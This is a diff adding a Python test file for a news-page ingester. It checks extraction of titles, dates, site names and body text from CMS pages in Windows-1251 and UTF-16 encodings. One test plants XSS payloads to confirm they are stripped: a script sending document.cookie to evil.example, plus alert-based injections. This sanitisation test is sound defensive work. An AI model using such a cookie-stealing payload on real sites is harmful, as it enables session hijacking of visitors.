@@ -1,0 +1,94 @@
+"""HTML pages from Bitrix/Joomla/WordPress-like CMSs, in the encodings the region's sites use."""
+
+import codecs
+
+from ingest_pages import CSTO_BODY, RU_BODY, bitrix_page, joomla_page, wordpress_page, write
+
+from searchsvc.ingest import ingest_paths
+from searchsvc.ingest.urls import url_id
+
+TITLE = "CSTO Secretary General Tasmagambetov invited to Belarus in February"
+RU_TITLE = "Вольфович встретился с новым генсеком ОДКБ"
+
+
+def ingest_one(path):
+    report = ingest_paths([path], extract_entities=False)
+    report.check()
+    (result,) = report.results
+    assert not result.rejected, result.reason
+    return result
+
+
+def test_bitrix_page_in_windows_1251_declared(tmp_path):
+    page = bitrix_page(RU_TITLE, "11.01.2023 14:35", RU_BODY)
+    result = ingest_one(write(tmp_path / "news.html", page, encoding="cp1251"))
+    a = result.article
+    assert a.title == RU_TITLE  # the <title>'s " - site" suffix is not part of the headline
+    assert (a.published, a.published_time) == ("2023-01-11", "14:35")
+    assert a.site == "Горецкий районный исполнительный комитет"
+    assert a.paragraphs == RU_BODY
+    assert a.lang == "ru"
+    for chrome in ("Главная", "Версия для слабовидящих", "Последние новости", "Все права", "Поделиться"):
+        assert chrome not in a.body
+
+
+def test_windows_1251_without_declaration_is_detected(tmp_path):
+    page = bitrix_page(RU_TITLE, "11 января 2023", RU_BODY, declare=False)
+    result = ingest_one(write(tmp_path / "news.html", page, encoding="cp1251"))
+    assert result.article.title == RU_TITLE
+    assert result.article.paragraphs == RU_BODY
+    assert result.article.published == "2023-01-11"
+    assert any("windows-1251" in w for w in result.warnings)
+
+
+def test_wordpress_page_in_utf16_with_bom(tmp_path):
+    page = wordpress_page(TITLE, "Osipovichi Regional Executive Committee", "2023-01-11T11:35:00+00:00", CSTO_BODY,
+                          canonical="https://osipovichi.gov.by/en/news/csto-visit/?utm_source=telegram")
+    path = write(tmp_path / "post.html", codecs.BOM_UTF16_LE + page.encode("utf-16-le"))
+    a = ingest_one(path).article
+    assert a.title == TITLE
+    assert a.site == "Osipovichi Regional Executive Committee"
+    assert (a.published, a.published_time) == ("2023-01-11", "14:35")  # UTC in the page, Minsk time stored
+    assert a.url == "https://osipovichi.gov.by/en/news/csto-visit"
+    assert a.id == url_id("http://osipovichi.gov.by/en/news/csto-visit")  # stable: canonical URL, not content
+    assert a.paragraphs == CSTO_BODY
+    for chrome in ("Share this", "Recent Posts", "Great news for everyone", "Related", "All rights reserved",
+                   "Economy"):
+        assert chrome not in a.body
+
+
+def test_utf16_big_endian_bom(tmp_path):
+    page = wordpress_page(TITLE, "Borisov District Executive Committee", "2023-01-11", CSTO_BODY,
+                          canonical="https://borisov.gov.by/news/1")
+    a = ingest_one(write(tmp_path / "post.htm", codecs.BOM_UTF16_BE + page.encode("utf-16-be"))).article
+    assert (a.title, a.published, a.site) == (TITLE, "2023-01-11", "Borisov District Executive Committee")
+
+
+def test_joomla_page_title_from_heading_and_date_from_time_element(tmp_path):
+    page = joomla_page(TITLE, "Slutsk District Executive Committee", "2023-01-11T14:35:00+03:00", CSTO_BODY)
+    a = ingest_one(write(tmp_path / "item.html", page)).article
+    assert a.title == TITLE
+    assert (a.published, a.published_time) == ("2023-01-11", "14:35")
+    assert a.site == "Slutsk District Executive Committee"
+    assert a.paragraphs == CSTO_BODY
+    assert "Useful links" not in a.body and "Hits" not in a.body
+
+
+def test_html_saved_with_txt_suffix_is_still_html(tmp_path):
+    page = wordpress_page(TITLE, "Pinsk District Executive Committee", "2023-01-11", CSTO_BODY,
+                          canonical="https://pinsk.gov.by/news/2")
+    a = ingest_one(write(tmp_path / "scraped.txt", page)).article
+    assert a.title == TITLE and a.paragraphs == CSTO_BODY
+
+
+def test_script_in_title_and_body_is_removed_not_kept_as_text(tmp_path):
+    body = [CSTO_BODY[0] + '<script>document.location="https://evil.example/?c="+document.cookie</script>',
+            '<img src=x onerror="alert(1)">' + CSTO_BODY[1]]
+    page = wordpress_page(TITLE, "Osipovichi Regional Executive Committee", "2023-01-11", body,
+                          canonical="https://osipovichi.gov.by/news/3")
+    page = page.replace(f'<h1 class="entry-title">{TITLE}</h1>',
+                        f'<h1 class="entry-title">{TITLE}<script>alert("x")</script></h1>')
+    a = ingest_one(write(tmp_path / "xss.html", page)).article
+    assert a.title == TITLE
+    assert a.paragraphs == CSTO_BODY[:2]
+    assert "<" not in a.body and "alert" not in a.body and "cookie" not in a.body
